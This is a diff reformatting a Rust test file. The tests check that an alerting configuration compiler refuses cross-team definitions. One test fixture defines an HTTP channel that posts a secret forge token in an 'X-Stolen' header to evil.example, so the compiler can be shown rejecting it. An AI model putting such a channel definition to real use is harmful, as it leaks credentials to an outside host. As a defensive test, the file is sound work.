@@ -85,7 +85,10 @@ fn what_is_another_ones_is_refused_with_where_and_whose() {
         ("{kind: Person, name: eve}", "is in no team"),
         ("{kind: Audience, name: mayor, contacts: [{email: eve@evil.example}]}", "belong to the whole organisation"),
         ("{kind: Source, name: fake, team: noc}", "belongs to team `noc`"),
-        ("{kind: Schedule, name: noc, team: noc, time_zone: UTC, rotation: {people: [dana], start: 2026-01-05T09:00, every: 1w}}", "belongs to team `noc`"),
+        (
+            "{kind: Schedule, name: noc, team: noc, time_zone: UTC, rotation: {people: [dana], start: 2026-01-05T09:00, every: 1w}}",
+            "belongs to team `noc`",
+        ),
     ] {
         let text = refusal(more);
         assert!(text.contains("repository `payments` may not define"), "{text}");
@@ -110,7 +113,9 @@ fn no_rule_decides_about_the_signals_of_others() {
         // An empty pattern may be no pattern at all; it is refused either way.
         assert!(refused || report.has_errors(), "{when}\n{}", report.render_text(false));
     }
-    let text = refusal("{kind: Rule, name: push, team: payments, when: {service: [ledger]}, then: {incident: {service: dns}}}");
+    let text = refusal(
+        "{kind: Rule, name: push, team: payments, when: {service: [ledger]}, then: {incident: {service: dns}}}",
+    );
     assert!(text.contains("may not send signals to service `dns`"), "{text}");
 }
 
@@ -124,7 +129,11 @@ fn roles_are_the_organisations_to_give() {
     ];
     let (catalog, report) = compile_files(files, Mode::Whole, None);
     assert!(catalog.is_none());
-    assert!(report.render_text(false).contains("repository `payments` may not give roles"), "{}", report.render_text(false));
+    assert!(
+        report.render_text(false).contains("repository `payments` may not give roles"),
+        "{}",
+        report.render_text(false)
+    );
 }
 
 #[test]
@@ -147,14 +156,20 @@ fn what_the_organisation_says_of_repositories_is_checked() {
     let wrong = wrong.replace("repository: directory", "repository: payments");
     let (_, report) = compile_files(vec![("org.yaml".to_owned(), wrong)], Mode::Whole, None);
     let text = report.render_text(false);
-    for words in ["there is no kind `Persn`", "did you mean `Person`?", "team `nobody` does not exist", "`payments` is listed twice"] {
+    for words in [
+        "there is no kind `Persn`",
+        "did you mean `Person`?",
+        "team `nobody` does not exist",
+        "`payments` is listed twice",
+    ] {
         assert!(text.contains(words), "{words}\n{text}");
     }
 }
 
 #[test]
 fn one_repository_needs_nothing_said() {
-    let files = vec![("a.yaml".to_owned(), ORGANIZATION.to_owned()), ("b.yaml".to_owned(), format!("{PEOPLE}---{PAYMENTS}"))];
+    let files =
+        vec![("a.yaml".to_owned(), ORGANIZATION.to_owned()), ("b.yaml".to_owned(), format!("{PEOPLE}---{PAYMENTS}"))];
     let (catalog, report) = compile_files(files, Mode::Whole, None);
     assert!(catalog.is_some(), "{}", report.render_text(false));
 }
@@ -174,7 +189,11 @@ fn a_place_belongs_to_the_team_of_its_document() {
 
 #[test]
 fn no_channel_sends_a_secret_away_that_was_not_lent() {
-    let channel = |more: &str| format!("{{kind: Channel, name: sms, team: payments, type: http, url: \"https://evil.example/\", body: '{{}}', {more}}}");
+    let channel = |more: &str| {
+        format!(
+            "{{kind: Channel, name: sms, team: payments, type: http, url: \"https://evil.example/\", body: '{{}}', {more}}}"
+        )
+    };
     let theft = channel("headers: {X-Stolen: '{{secret:forge-token}}'}");
     for more in [
         theft.as_str(),
@@ -190,7 +209,9 @@ fn no_channel_sends_a_secret_away_that_was_not_lent() {
 
 #[test]
 fn no_service_takes_the_signals_of_another_repository() {
-    let service = |name: &str, set: &str| format!("{{kind: Service, name: {name}, team: payments, match: {{labels: {{{set}}}}}}}");
+    let service = |name: &str, set: &str| {
+        format!("{{kind: Service, name: {name}, team: payments, match: {{labels: {{{set}}}}}}}")
+    };
     for set in ["job: dns", "job: dns, env: prod", "job: dns, env: prod, zone: a"] {
         let text = refusal(&service("aaa", set));
         assert!(text.contains("repository `payments` may not take signals of service `dns`"), "{text}");
